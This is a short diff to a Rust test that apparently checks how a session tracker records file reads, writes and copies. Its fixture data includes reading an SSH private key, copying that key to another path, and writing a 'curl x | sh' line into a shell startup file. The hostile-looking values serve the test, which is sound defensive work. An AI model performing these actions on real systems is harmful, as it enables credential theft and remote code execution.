@@ -92,6 +92,11 @@ fn a_call_leaves_its_writes_reads_and_symlinks() {
             read("/home/u/.ssh/id_rsa"),
             wrote("/nonexistent-sg/p/key.txt", None, false),
             wrote("/home/u/.zshrc", Some("curl x | sh\n"), true),
+            // `cat A > B`: B is a copy of A for the rest of the session.
+            Entry::Copied {
+                path: "/nonexistent-sg/p/key.txt".into(),
+                from: "/home/u/.ssh/id_rsa".into(),
+            },
         ]
     );
     // A patch: an added file is whole, an updated one gets fragments.
